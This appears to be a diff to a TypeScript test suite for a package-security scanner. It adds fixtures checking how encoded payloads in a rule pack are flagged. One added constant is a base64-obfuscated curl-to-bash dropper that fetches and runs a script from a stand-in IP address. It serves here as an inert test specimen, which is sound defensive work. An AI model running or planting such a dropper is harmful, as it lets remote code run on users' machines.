@@ -32,6 +32,8 @@ const PNG = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a
 const TGZ = Buffer.from([0x1f, 0x8b, 0x08, 0x00, 0, 0, 0, 0, 0, 0x03, 0, 0]);
 const pkg = (extra: Record<string, unknown> = {}) => JSON.stringify({ name: 'case', version: '1.0.0', main: 'index.js', ...extra });
 const JS = 'module.exports = 1;\n';
+/** base64 of `/bin/bash -c "$(curl -fsSL http://192.0.2.5/i)"`, piped to a shell (inert: TEST-NET, never run). */
+const B64_DROPPER = "echo 'L2Jpbi9iYXNoIC1jICIkKGN1cmwgLWZzU0wgaHR0cDovLzE5Mi4wLjIuNS9pKSI=' | base64 -D | bash";
 const BIG = `${'var x = 1; // a line of real code, not padding\n'.repeat(3000)}`;
 const PACKAGE_CASES: Record<string, { positive: PackageCase; negative: PackageCase }> = {
   'package-bundled-executable': { positive: { files: { 'package.json': pkg(), 'index.js': JS, 'bin/tool': ELF } }, negative: { files: { 'package.json': pkg(), 'index.js': JS, 'bin/tool': '#!/bin/sh\necho ok\n' } } },
@@ -68,6 +70,11 @@ const PACKAGE_CASES: Record<string, { positive: PackageCase; negative: PackageCa
   'package-unreadable-file': {
     positive: { files: { 'package.json': pkg(), 'index.js': JS, 'docs/notes.txt': 'notes' }, prepare: (d) => fs.chmodSync(path.join(d, 'docs/notes.txt'), 0), asNobody: true },
     negative: { files: { 'package.json': pkg(), 'index.js': JS, 'docs/notes.txt': 'notes' }, asNobody: true },
+  },
+  // A rule pack's encoded specimens in a list its key labels as examples, over several lines, are matched, not run.
+  'threat-decoded-payload-behaviour': {
+    positive: { files: { 'package.json': pkg(), 'index.js': JS, 'rules/pack.json': `{\n  "rules": [],\n  "payloads": [\n    "${B64_DROPPER}"\n  ]\n}\n` } },
+    negative: { files: { 'package.json': pkg(), 'index.js': JS, 'rules/pack.json': `{\n  "rules": [],\n  "examples": [\n    "${B64_DROPPER}"\n  ]\n}\n` } },
   },
   'skill-frontmatter-invalid': {
     positive: { target: 'skill', files: { 'SKILL.md': '---\nname: [unclosed\n---\nHello.\n' } },
